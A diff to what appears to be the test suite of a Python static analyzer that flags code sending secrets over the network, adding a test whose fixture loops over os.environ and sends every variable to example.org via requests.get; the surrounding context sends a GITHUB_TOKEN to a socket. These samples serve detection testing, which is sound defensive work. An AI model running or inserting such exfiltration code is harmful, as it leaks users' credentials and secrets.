@@ -295,3 +295,15 @@ def test_data_sent_on_a_connection_made_in_the_same_expression():
     [finding] = PythonAnalyzer().analyze(SourceFile("x.py", code)).findings
     assert (finding.api, finding.line, finding.data_sources) == ("socket.create_connection", 3, ("env GITHUB_TOKEN",))
     assert [d.text for d in finding.destinations] == ["example.org:9999"]
+
+
+def test_a_loop_variable_carries_what_it_iterates():
+    code = (b"import os\nimport requests\n"
+            b"for k, v in os.environ.items():\n"
+            b"    requests.get('https://example.org/', params={k: v})\n")
+    [finding] = PythonAnalyzer().analyze(SourceFile("x.py", code)).findings
+    assert (finding.api, finding.line, finding.data_sources) == ("requests.get", 4, ("env",))
+    # a loop variable named like a module is the loop's, never the module
+    shadow = b"import socket\nfor socket in []:\n    socket.connect(('h', 1))\n"
+    assert [(f.kind, f.api) for f in PythonAnalyzer().analyze(SourceFile("y.py", shadow)).findings] == [
+        (FindingKind.IMPORT_ONLY, "socket")]
